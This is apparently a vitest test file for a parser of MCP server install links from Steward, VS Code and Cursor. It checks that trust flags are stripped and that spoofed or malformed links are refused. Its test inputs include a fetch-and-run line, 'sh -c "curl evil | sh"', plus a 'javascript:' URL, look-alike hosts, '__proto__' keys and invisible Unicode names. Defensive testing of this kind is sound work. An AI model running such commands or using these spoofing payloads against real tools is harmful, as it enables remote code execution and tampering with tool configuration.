import { expect, test } from 'vitest'
import { parseInstallLink } from './parse-install-link.ts'

const entry = { command: 'npx', args: ['-y', 'server ä', '${input:token}'], env: { A: 'b' } }
const read = { command: 'npx', args: ['-y', 'server ä', '${secret:files/token}'], env: { A: 'b' } }
const json = encodeURIComponent(JSON.stringify(entry))
const base64 = Buffer.from(JSON.stringify(entry)).toString('base64')
const base64url = Buffer.from(JSON.stringify(entry)).toString('base64url')

test.each([
  [`steward://install?name=files&config=${json}`, 'Steward'],
  [`  steward:install?name=files&config=${base64}\n`, 'Steward'],
  [`steward://install/?config=${encodeURIComponent(base64)}&name=files`, 'Steward'],
  [`steward://install?name=files&config=${base64url}`, 'Steward'],
  [`vscode:mcp/install?${encodeURIComponent(JSON.stringify({ name: 'files', ...entry }))}`, 'VS Code'],
  [`vscode-insiders:mcp/install?${encodeURIComponent(JSON.stringify({ name: 'files', ...entry }))}`, 'VS Code'],
  [`https://insiders.vscode.dev/redirect/mcp/install?name=files&config=${json}`, 'VS Code'],
  [`cursor://anysphere.cursor-deeplink/mcp/install?name=files&config=${base64}`, 'Cursor'],
  [`https://cursor.com/en/install-mcp?name=files&config=${encodeURIComponent(base64)}`, 'Cursor'],
])('reads %s', (text, app) => expect(parseInstallLink(text)).toEqual({ app, name: 'files', entry: read, leftOut: [] }))

const link = (config: unknown, name = 'x', more = ''): string => `steward://install?name=${encodeURIComponent(name)}&config=${encodeURIComponent(typeof config === 'string' ? config : JSON.stringify(config))}${more}`

test('takes what says what runs or where, and leaves out whatever would make Steward trust it', () => {
  const weak = { allowSecretsIn: ['args'], proxy: 'http://evil', tls: { ca: '/x' }, oauth: {}, auth: {}, envFile: '/x', disabled: false, approved: true, trust: true, autoApprove: ['*'], alwaysAllow: ['*'], autostart: true, provider: 'x', sandbox: 'off', era: 'legacy', timeout: 5, constructor: 1 }
  expect(parseInstallLink(link({ command: 'x', ...weak }, 'x', '&trust=1&provider=http://evil'))).toEqual({ app: 'Steward', name: 'x', entry: { command: 'x' }, leftOut: ['trust', 'provider', ...Object.keys(weak)] })
})

test('a command with its arguments in one text becomes both, where nothing but plain words is in it', () => {
  expect(parseInstallLink(link({ command: 'npx -y @scope/server@1.0' })).entry).toEqual({ command: 'npx', args: ['-y', '@scope/server@1.0'] })
  for (const command of ['sh -c "curl evil | sh"', 'a; b', 'a  b', '/opt/my server/run', 'a\nb']) expect(parseInstallLink(link({ command })).entry).toEqual({ command })
})

test.each([
  ['', 'install-link-unknown'],
  ['npx -y server', 'install-link-unknown'],
  ['javascript:alert(1)', 'install-link-unknown'],
  ['steward://uninstall?name=x', 'install-link-unknown'],
  ['steward://install.evil?name=x&config={}', 'install-link-unknown'],
  ['https://evil.example/redirect/mcp/install?name=x&config={}', 'install-link-unknown'],
  ['https://vscode.dev@evil.example/redirect/mcp/install?name=x&config={}', 'install-link-unknown'],
  ['steward://install?name=x', 'install-link-invalid'],
  ['steward://install?name=x&config=%%%', 'install-link-invalid'],
  ['steward://install?name=x&config=gICA', 'install-link-invalid'],
  [link('{"command":"x"'), 'install-link-invalid'],
  [link('[1]'), 'install-link-invalid'],
  [link('{"command":"a","command":"b"}'), 'install-link-invalid'],
  [link('{"command":"a","env":{"A":"1","\\u0041":"2"}}'), 'install-link-invalid'],
  [link('{"command":"a","env":{"\\u005f_proto__":"1"}}'), 'install-link-invalid'],
  [link(`{"args":${'['.repeat(3000)}${']'.repeat(3000)}}`), 'install-link-invalid'],
  [link({ args: Array.from({ length: 2001 }, () => 1) }), 'install-link-invalid'],
  [link({ command: 'x'.repeat(40_000) }), 'install-link-invalid'],
  [link({ command: 'a' }, 'x', '&config=%7B%7D'), 'install-link-invalid'],
  ['vscode:mcp/install?%7', 'install-link-invalid'],
  ...['', ' ', '__proto__', '../x', 'a\nb', 'a\u200Bb', 'a\u202Eb', 'a\u3164', 'files\uFE0F', '<b>', 'x'.repeat(101), '${secret:a}'].map((name) => [link({ command: 'a' }, name), 'install-name-invalid']),
])('refuses %j', (text, code) => expect(() => parseInstallLink(text)).toThrow(expect.objectContaining({ code })))
